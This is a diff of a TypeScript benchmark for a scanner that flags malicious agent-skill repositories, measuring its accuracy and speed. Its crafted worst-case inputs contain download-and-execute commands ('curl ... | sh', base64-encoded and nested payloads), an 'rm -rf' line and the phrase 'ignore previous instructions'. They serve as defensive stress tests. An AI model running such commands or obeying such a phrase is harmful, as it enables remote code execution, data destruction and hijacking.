@@ -7,10 +7,11 @@ import { createReadStream, existsSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { createInterface } from "node:readline";
 import { parseArgs } from "node:util";
+import { LINE_RULES } from "../src/build/trust/rules/index.js";
 import { RULES_VERSION, type ScanInput, scanRepository } from "../src/build/trust/scan.js";
 import { SHARED_DATASET, sharedDatasetPresent } from "../src/node/shared-dataset.js";
 import { readRows, scanInputsFromFolder } from "../src/node/trust-inputs.js";
-import type { FolderFile, SkillRecord } from "../src/schemas/dataset.js";
+import type { FolderFile } from "../src/schemas/dataset.js";
 import { machineLine, mb, percentile, table } from "./support/machine.js";
 
 const { values } = parseArgs({
@@ -18,107 +19,163 @@ const { values } = parseArgs({
     size: { type: "string", default: "100000" },
     work: { type: "string", default: ".tmp/bench" },
     "skip-scale": { type: "boolean", default: false },
+    /** Only the build with and without the scan (bench/results/trust-build.md), nothing else. */
+    "scale-only": { type: "boolean", default: false },
+    /** An existing dataset folder to build (default: synthesised under --work). */
+    data: { type: "string" },
+    rounds: { type: "string", default: "1" },
   },
 });
 const log = (line: string) => process.stderr.write(`${line}\n`);
-const sections: string[] = [];
-
-// 1. The development corpus.
 const corpusDir = join("test", "trust", "corpus");
-const corpus = await scanInputsFromFolder(corpusDir);
-const labels = (await readRows(join(corpusDir, "skills.jsonl"))).length > 0 ? await labelRows() : [];
-const confusion: Record<string, Record<string, number>> = { malicious: {}, clean: {} };
-for (const label of labels) {
-  const input = corpus.find((i) => i.owner === label.owner && i.repo === label.repo)!;
-  const verdict = scanRepository(input).verdict;
-  confusion[label.verdict]![verdict] = (confusion[label.verdict]![verdict] ?? 0) + 1;
+const machine = `Machine: ${machineLine()}, shared with other work while measured. Rules version ${RULES_VERSION}.`;
+if (!values["scale-only"]) {
+  // 1-3: the corpus, the shared dataset and the crafted worst files.
+  const body = `# Trust scanner benchmark\n\n${machine}\n\n${(await scannerSections()).join("\n\n")}\n`;
+  writeFileSync(join("bench", "results", "trust.md"), body);
+  log(body);
 }
-const cell = (l: string, v: string) => confusion[l]![v] ?? 0;
-const malTotal = cell("malicious", "malicious") + cell("malicious", "suspicious") + cell("malicious", "clean");
-const benTotal = cell("clean", "malicious") + cell("clean", "suspicious") + cell("clean", "clean");
-const pct = (a: number, b: number) => `${((a / Math.max(1, b)) * 100).toFixed(1)}%`;
-sections.push(
-  `## Development corpus (test/trust/corpus)\n\n${malTotal} malicious and ${benTotal} benign-but-alarming cases. Recall (malicious not clean): ${pct(malTotal - cell("malicious", "clean"), malTotal)}; malicious judged malicious: ${pct(cell("malicious", "malicious"), malTotal)}; benign judged malicious: ${cell("clean", "malicious")}; benign judged suspicious: ${pct(cell("clean", "suspicious"), benTotal)}; precision of \`malicious\`: ${pct(cell("malicious", "malicious"), cell("malicious", "malicious") + cell("clean", "malicious"))}.\n\n${table(
-    ["label \\ verdict", "malicious", "suspicious", "clean"],
-    ["malicious", "clean"].map((l) => [l === "clean" ? "benign" : l, cell(l, "malicious"), cell(l, "suspicious"), cell(l, "clean")]),
-  )}`,
-);
+// 4. The scan's share of the 100k build's wall time, in its own file (it takes the longest by far).
+if (!values["skip-scale"]) {
+  const body = `# Trust scan inside the build\n\n${machine}\n\n${await scale(Number(values.size))}\n`;
+  writeFileSync(join("bench", "results", "trust-build.md"), body);
+  log(body);
+}
 
-// 2. The shared dataset's real skills, and the time per file.
-if (sharedDatasetPresent()) {
-  log("shared dataset: scanning every repository, then every file alone");
-  const inputs = await scanInputsFromFolder(SHARED_DATASET);
-  const counts: Record<string, number> = { malicious: 0, suspicious: 0, clean: 0 };
-  const rules = new Map<string, number>();
-  let bytes = 0;
-  const t0 = performance.now();
-  for (const input of inputs) {
-    const r = scanRepository(input);
-    counts[r.verdict]!++;
-    for (const f of r.findings) rules.set(`${f.rule} (${f.severity})`, (rules.get(`${f.rule} (${f.severity})`) ?? 0) + 1);
-    bytes += input.skills.reduce((s, f) => s + f.content.length, 0) + input.folderFiles.reduce((s, f) => s + (f.content?.length ?? 0), 0);
+async function scannerSections(): Promise<string[]> {
+  const sections: string[] = [];
+  // 1. The development corpus.
+  const corpus = await scanInputsFromFolder(corpusDir);
+  const labels = (await readRows(join(corpusDir, "skills.jsonl"))).length > 0 ? await labelRows() : [];
+  const confusion: Record<string, Record<string, number>> = { malicious: {}, clean: {} };
+  for (const label of labels) {
+    const input = corpus.find((i) => i.owner === label.owner && i.repo === label.repo)!;
+    const verdict = scanRepository(input).verdict;
+    confusion[label.verdict]![verdict] = (confusion[label.verdict]![verdict] ?? 0) + 1;
   }
-  const wall = performance.now() - t0;
-  const perFile: number[] = [];
-  for (const input of inputs) {
-    for (const s of input.skills) perFile.push(timeOne({ ...input, skills: [s], folderFiles: [] }));
-    for (const f of input.folderFiles) if (f.kind === "text") perFile.push(timeOne({ ...input, folderFiles: [f], skills: [] }));
-  }
+  const cell = (l: string, v: string) => confusion[l]![v] ?? 0;
+  const malTotal = cell("malicious", "malicious") + cell("malicious", "suspicious") + cell("malicious", "clean");
+  const benTotal = cell("clean", "malicious") + cell("clean", "suspicious") + cell("clean", "clean");
+  const pct = (a: number, b: number) => `${((a / Math.max(1, b)) * 100).toFixed(1)}%`;
   sections.push(
-    `## Shared dataset (real skills, almost all benign)\n\n${inputs.length} repositories, ${perFile.length} files, ${mb(bytes)} MB of text, scanned in ${(wall / 1000).toFixed(1)} s (${(bytes / 1e6 / (wall / 1000)).toFixed(1)} MB/s, one thread).\n\n${table(
-      ["verdict", "repositories"],
-      Object.entries(counts).map(([v, n]) => [v, n]),
-    )}\n\nMost frequent rules (findings, after the per-repository cap):\n\n${table(
-      ["rule (severity)", "findings"],
-      [...rules].sort((a, b) => b[1] - a[1]).slice(0, 12),
-    )}\n\nScan time per file (each file scanned alone): p50 ${percentile(perFile, 50).toFixed(2)} ms, p95 ${percentile(perFile, 95).toFixed(2)} ms, max ${Math.max(...perFile).toFixed(1)} ms.`,
+    `## Development corpus (test/trust/corpus)\n\n${malTotal} malicious and ${benTotal} benign-but-alarming cases. Recall (malicious not clean): ${pct(malTotal - cell("malicious", "clean"), malTotal)}; malicious judged malicious: ${pct(cell("malicious", "malicious"), malTotal)}; benign judged malicious: ${cell("clean", "malicious")}; benign judged suspicious: ${pct(cell("clean", "suspicious"), benTotal)}; precision of \`malicious\`: ${pct(cell("malicious", "malicious"), cell("malicious", "malicious") + cell("clean", "malicious"))}.\n\n${table(
+      ["label \\ verdict", "malicious", "suspicious", "clean"],
+      ["malicious", "clean"].map((l) => [l === "clean" ? "benign" : l, cell(l, "malicious"), cell(l, "suspicious"), cell(l, "clean")]),
+    )}`,
   );
-} else sections.push(`## Shared dataset\n\nNot measured: no dataset at ${SHARED_DATASET}.`);
 
-// 3. The worst files within the crawl's bounds, crafted against the scanner.
-const KIB256 = 256 * 1024;
-/** The unit repeated up to 256 KiB of UTF-8. */
-const fill = (unit: string) => {
-  const n = Math.floor(KIB256 / Buffer.byteLength(unit));
-  return unit.repeat(n);
-};
-const crafted: [string, string, string][] = [
-  ["one 256 KiB line of `a`", "data.txt", "a".repeat(KIB256)],
-  ["one line of near-miss commands", "evil.sh", fill("curl a | x curl -fsSL http://a c'' |base64 -d rm -rf ~/x \\x41 %41 ")],
-  ["one line of base64 text", "blob.txt", fill(Buffer.from("curl http://203.0.113.1/ | sh; ").toString("base64"))],
-  [
-    "lines of base64 text",
-    "blobs.sh",
-    fill(`echo ${Buffer.from("curl -s http://203.0.113.1/x | sh").toString("base64")} | base64 -d | sh\n`),
-  ],
-  ["zero-width characters", "zw.md", fill("\u200B\u200C")],
-  ["Unicode tag characters", "tags.md", fill(String.fromCodePoint(0xe0041))],
-  ["%-escapes and \\x escapes", "esc.js", fill("%41\\x41")],
-  ["string literals glued with +", "glue.js", fill('"a"+')],
-  ["markdown fences and comments", "doc.md", fill("```\n<!-- x\n-->\n# h\n")],
-  ["keywords on every line", "keys.md", fill("ignore previous instructions curl wget password .ssh token\n")],
-];
-const craftedRows = crafted.map(([what, path, content]) => {
+  // 2. The shared dataset's real skills, and the time per file.
+  if (sharedDatasetPresent()) {
+    log("shared dataset: scanning every repository, then every file alone");
+    const inputs = await scanInputsFromFolder(SHARED_DATASET);
+    const counts: Record<string, number> = { malicious: 0, suspicious: 0, clean: 0 };
+    const rules = new Map<string, number>();
+    let bytes = 0;
+    const t0 = performance.now();
+    for (const input of inputs) {
+      const r = scanRepository(input);
+      counts[r.verdict]!++;
+      for (const f of r.findings) rules.set(`${f.rule} (${f.severity})`, (rules.get(`${f.rule} (${f.severity})`) ?? 0) + 1);
+      bytes += input.skills.reduce((s, f) => s + f.content.length, 0) + input.folderFiles.reduce((s, f) => s + (f.content?.length ?? 0), 0);
+    }
+    const wall = performance.now() - t0;
+    const perFile: number[] = [];
+    for (const input of inputs) {
+      for (const s of input.skills) perFile.push(timeOne({ ...input, skills: [s], folderFiles: [] }));
+      for (const f of input.folderFiles) if (f.kind === "text") perFile.push(timeOne({ ...input, folderFiles: [f], skills: [] }));
+    }
+    sections.push(
+      `## Shared dataset (real skills, almost all benign)\n\n${inputs.length} repositories, ${perFile.length} files, ${mb(bytes)} MB of text, scanned in ${(wall / 1000).toFixed(1)} s (${(bytes / 1e6 / (wall / 1000)).toFixed(1)} MB/s, one thread).\n\n${table(
+        ["verdict", "repositories"],
+        Object.entries(counts).map(([v, n]) => [v, n]),
+      )}\n\nMost frequent rules (findings, after the per-repository cap):\n\n${table(
+        ["rule (severity)", "findings"],
+        [...rules].sort((a, b) => b[1] - a[1]).slice(0, 12),
+      )}\n\nScan time per file (each file scanned alone, CPU time): p50 ${percentile(perFile, 50).toFixed(2)} ms, p95 ${percentile(perFile, 95).toFixed(2)} ms, max ${Math.max(...perFile).toFixed(1)} ms.`,
+    );
+  } else sections.push(`## Shared dataset\n\nNot measured: no dataset at ${SHARED_DATASET}.`);
+
+  // 3. The worst files within the crawl's bounds, crafted against the scanner.
+  const KIB256 = 256 * 1024;
+  /** The unit repeated up to 256 KiB of UTF-8. */
+  const fill = (unit: string) => {
+    const n = Math.floor(KIB256 / Buffer.byteLength(unit));
+    return unit.repeat(n);
+  };
+  const crafted: [string, string, string][] = [
+    ["one 256 KiB line of `a`", "data.txt", "a".repeat(KIB256)],
+    ["one line of near-miss commands", "evil.sh", fill("curl a | x curl -fsSL http://a c'' |base64 -d rm -rf ~/x \\x41 %41 ")],
+    ["one line of base64 text", "blob.txt", fill(Buffer.from("curl http://203.0.113.1/ | sh; ").toString("base64"))],
+    [
+      "lines of base64 text",
+      "blobs.sh",
+      fill(`echo ${Buffer.from("curl -s http://203.0.113.1/x | sh").toString("base64")} | base64 -d | sh\n`),
+    ],
+    ["zero-width characters", "zw.md", fill("\u200B\u200C")],
+    ["Unicode tag characters", "tags.md", fill(String.fromCodePoint(0xe0041))],
+    ["%-escapes and \\x escapes", "esc.js", fill("%41\\x41")],
+    ["string literals glued with +", "glue.js", fill('"a"+')],
+    ["markdown fences and comments", "doc.md", fill("```\n<!-- x\n-->\n# h\n")],
+    ["keywords on every line", "keys.md", fill("ignore previous instructions curl wget password .ssh token\n")],
+    // Fuzz-style: one character 256 KiB long, long lines of tags and keys, deep encodings.
+    ["256 KiB of one character: `<`", "one.md", "<".repeat(KIB256)],
+    ["256 KiB of one character: `\\`", "one.py", "\\".repeat(KIB256)],
+    ['256 KiB of one character: `"`', "one.py", '"'.repeat(KIB256)],
+    ["256 KiB of one character: `%`", "one.js", "%".repeat(KIB256)],
+    ["256 KiB of one character: newline", "one.md", "\n".repeat(KIB256)],
+    ["256 KiB of one character: U+200B", "one.md", fill("\u200B")],
+    ["one line of `<a ` before a `hidden`", "tags.md", `${fill("<a ").slice(0, KIB256 - 7)} hidden`],
+    ["one line of HTML comments", "comments.md", fill("<!-- curl x | sh -->")],
+    ["one line of downloads from a bare IP", "ips.sh", fill("curl 203.0.113.1 ")],
+    ["one line of downloads before a pipe", "pipes.sh", fill(`${"iwr ".repeat(100)}| x `)],
+    ["base64 nested twelve deep", "deep.sh", fill(`echo ${nested(12)} | base64 -d | sh\n`)],
+    ["escapes of escapes of escapes", "esc2.py", fill("\\\\x5c\\\\x78\\x41%5C%78%34%31 ")],
+    ["every rule's keys on one line", "keys.sh", fill(`${LINE_RULES.flatMap((r) => r.keys).join(" ")} `)],
+    ["every rule's keys on every line", "keys.md", fill(`${LINE_RULES.flatMap((r) => r.keys).join(" ")}\n`)],
+  ];
+  const craftedRows = crafted.map(([what, path, content]) => timedRow(what, path, content));
+  // Each rule's own keys, as one line and as lines, in a script and in markdown: the slowest few are shown.
+  const floods = LINE_RULES.flatMap((r) =>
+    (
+      [
+        ["sh", ""],
+        ["md", "\n"],
+      ] as const
+    ).map(([ext, sep]) =>
+      timedRow(`\`${r.id}\` keys, ${sep ? "a line each" : "one line"} (.${ext})`, `flood.${ext}`, fill(`${r.keys.join(" ")} ${sep}`)),
+    ),
+  );
+  const slowest = [...floods].sort((x, y) => Number(y[2]) - Number(x[2])).slice(0, 8);
+  sections.push(
+    `## Worst crafted files (256 KiB each, the crawl's bound)\n\nTarget: every one under 50 ms. After one warm-up run, the median and the slowest of five runs, in CPU milliseconds of the scanning process (on a machine shared with other work wall time mostly measures the wait for a core).\n\n${table(["file", "bytes", "median (ms)", "slowest (ms)"], craftedRows)}\n\nEvery rule's keys repeated to 256 KiB (${floods.length} files: each rule, one line and a line each, as a script and as markdown); the ${slowest.length} slowest by median, of ${floods.length}, whose overall slowest median is ${Math.max(...floods.map((f) => Number(f[2]))).toFixed(1)} ms:\n\n${table(["file", "bytes", "median (ms)", "slowest (ms)"], slowest)}`,
+  );
+  return sections;
+}
+
+/** A file scanned alone: one warm-up (it also compiles the patterns), then five timed runs. */
+function timedRow(what: string, path: string, content: string): string[] {
   const input: ScanInput = { owner: "x", repo: "y", name: "y", description: "", skills: [], folderFiles: [folderFile(path, content)] };
-  timeOne(input); // warm-up: the first run also compiles the patterns
+  timeOne(input);
   const times = [0, 1, 2, 3, 4].map(() => timeOne(input));
   return [what, Buffer.byteLength(content).toLocaleString("en"), percentile(times, 50).toFixed(1), Math.max(...times).toFixed(1)];
-});
-sections.push(
-  `## Worst crafted files (256 KiB each, the crawl's bound)\n\nTarget: every one under 50 ms. After one warm-up run, the median and the slowest of five runs.\n\n${table(["file", "bytes", "median (ms)", "slowest (ms)"], craftedRows)}`,
-);
+}
 
-// 4. Scanning at scale against the build.
-if (!values["skip-scale"]) sections.push(await scale(Number(values.size)));
+/** A command base64-encoded `depth` times over. */
+function nested(depth: number): string {
+  let text = "curl -s http://203.0.113.3/x | sh";
+  for (let i = 0; i < depth; i++) text = Buffer.from(text).toString("base64");
+  return text;
+}
 
-const body = `# Trust scanner benchmark\n\nMachine: ${machineLine()}, shared with other work while measured. Rules version ${RULES_VERSION}.\n\n${sections.join("\n\n")}\n`;
-writeFileSync(join("bench", "results", "trust.md"), body);
-log(body);
-
+/**
+ * CPU milliseconds of one scan (this process's user and system time): on a machine shared with other
+ * work, wall time mostly measures the queue for a core; CPU time measures the scanner.
+ */
 function timeOne(input: ScanInput): number {
-  const t = performance.now();
+  const before = process.cpuUsage();
   scanRepository(input);
-  return performance.now() - t;
+  const used = process.cpuUsage(before);
+  return (used.user + used.system) / 1000;
 }
 
 function folderFile(path: string, content: string): FolderFile {
@@ -134,72 +191,69 @@ async function labelRows(): Promise<{ owner: string; repo: string; verdict: stri
 
 async function scale(n: number): Promise<string> {
   const tsx = join("node_modules", ".bin", "tsx");
-  const dataDir = join(values.work, `synth-${n}`);
-  const outDir = join(values.work, `trust-site-${n}`);
-  const run = (args: string[]) => {
+  const dataDir = values.data ?? join(values.work, `synth-${n}`);
+  const run = (args: string[], scan: boolean) => {
     const res = spawnSync(tsx, args, {
       encoding: "utf8",
       stdio: ["ignore", "pipe", "inherit"],
       maxBuffer: 1 << 26,
-      env: { ...process.env, NODE_OPTIONS: "--max-old-space-size=20000" },
+      env: {
+        ...process.env,
+        NODE_OPTIONS: "--max-old-space-size=20000",
+        ...(scan ? {} : { SKILLS_BENCH_TRUST_SCAN: "off" }),
+      },
     });
     if (res.status !== 0) throw new Error(`${args.join(" ")} failed with ${res.status}`);
     return res.stdout;
   };
   if (!existsSync(join(dataDir, "skills.jsonl"))) {
     log(`[${n}] synthesising dataset`);
-    run(["scripts/synth.ts", "--skills", String(n), "--out", dataDir]);
+    run(["scripts/synth.ts", "--skills", String(n), "--out", dataDir], true);
   }
-  log(`[${n}] full build (the baseline)`);
-  const built = JSON.parse(run(["bench/build-once.ts", "--data", dataDir, "--out", outDir]));
-  log(`[${n}] scanning every record`);
-  let records = 0;
-  let bytes = 0;
-  const verdicts: Record<string, number> = { malicious: 0, suspicious: 0, clean: 0 };
-  const cpu0 = process.cpuUsage();
-  const t0 = performance.now();
-  for await (const line of createInterface({ input: createReadStream(join(dataDir, "skills.jsonl")) })) {
-    if (!line.trim()) continue;
-    const r = JSON.parse(line) as SkillRecord;
-    const res = scanRepository({
-      owner: r.owner,
-      repo: r.repo,
-      name: r.name,
-      description: r.description,
-      skills: r.files,
-      folderFiles: r.folderFiles ?? [],
-    });
-    verdicts[res.verdict]!++;
-    records++;
-    bytes += r.files.reduce((s, f) => s + f.content.length, 0);
+  // The same build twice in one run, the scan switched off (the baseline) and on; the order alternates
+  // over the rounds so neither always runs on a warmer page cache.
+  const rounds = Number(values.rounds);
+  const times: Record<"off" | "on", { wall: number; cpu: number; verdicts: string }[]> = { off: [], on: [] };
+  for (let round = 0; round < rounds; round++) {
+    for (const scan of round % 2 === 0 ? [false, true] : [true, false]) {
+      log(`[${n}] round ${round + 1}: full build, trust scan ${scan ? "on" : "off"}`);
+      const outDir = join(values.work, `trust-site-${n}-${scan ? "on" : "off"}`);
+      const report = JSON.parse(run(["bench/build-once.ts", "--data", dataDir, "--out", outDir], scan));
+      const v = report.verdicts;
+      times[scan ? "on" : "off"].push({
+        wall: report.millis,
+        cpu: report.cpuMillis,
+        verdicts: `${v.malicious} / ${v.suspicious} / ${v.clean}`,
+      });
+    }
   }
-  const wall = performance.now() - t0;
-  const cpu = process.cpuUsage(cpu0);
-  const ratio = wall / built.millis;
-  return `## Scanning ${n.toLocaleString("en")} synthetic records against their build\n\nThe build (\`bench/build-once.ts\`, search index included, its default worker threads) and the scan (one thread, reading skills.jsonl line by line; the read and JSON parse are counted in the scan) of the same dataset, measured in this run. Target: the scan adds at most 20% to the build's wall time.\n\n${table(
+  const median = (xs: number[]) => percentile(xs, 50);
+  const off = median(times.off.map((t) => t.wall));
+  const on = median(times.on.map((t) => t.wall));
+  const offCpu = median(times.off.map((t) => t.cpu));
+  const onCpu = median(times.on.map((t) => t.cpu));
+  return `## Scanning ${n.toLocaleString("en")} synthetic records inside their build\n\nThe whole build (\`bench/build-once.ts\`: first pass in its default worker threads, search index included) of the same dataset with the trust scan on, and with it off (\`SKILLS_BENCH_TRUST_SCAN=off\`, read only by src/build/scan-record.ts for this benchmark), ${rounds} round(s) each in this run, the order alternating; medians. Target: the scan adds at most 20% to the build's wall time.\n\n${table(
     [
       "records",
-      "SKILL.md MB",
-      "build wall (s)",
-      "build CPU (s)",
-      "scan wall (s)",
-      "scan CPU (s)",
-      "scan / build wall",
-      "scan MB/s",
-      "verdicts (m / s / c)",
+      "build wall, scan off (s)",
+      "build wall, scan on (s)",
+      "added wall",
+      "CPU off (s)",
+      "CPU on (s)",
+      "added CPU",
+      "verdicts with the scan",
     ],
     [
       [
-        records.toLocaleString("en"),
-        mb(bytes),
-        (built.millis / 1000).toFixed(1),
-        (built.cpuMillis / 1000).toFixed(1),
-        (wall / 1000).toFixed(1),
-        ((cpu.user + cpu.system) / 1e6).toFixed(1),
-        `${(ratio * 100).toFixed(1)}%`,
-        (bytes / 1e6 / (wall / 1000)).toFixed(1),
-        `${verdicts.malicious} / ${verdicts.suspicious} / ${verdicts.clean}`,
+        n.toLocaleString("en"),
+        (off / 1000).toFixed(1),
+        (on / 1000).toFixed(1),
+        `${(((on - off) / off) * 100).toFixed(1)}%`,
+        (offCpu / 1000).toFixed(1),
+        (onCpu / 1000).toFixed(1),
+        `${(((onCpu - offCpu) / offCpu) * 100).toFixed(1)}%`,
+        times.on[0]?.verdicts ?? "",
       ],
     ],
-  )}`;
+  )}\n\nEvery round: ${[...times.off.map((t) => `off ${(t.wall / 1000).toFixed(1)} s`), ...times.on.map((t) => `on ${(t.wall / 1000).toFixed(1)} s`)].join(", ")}.`;
 }
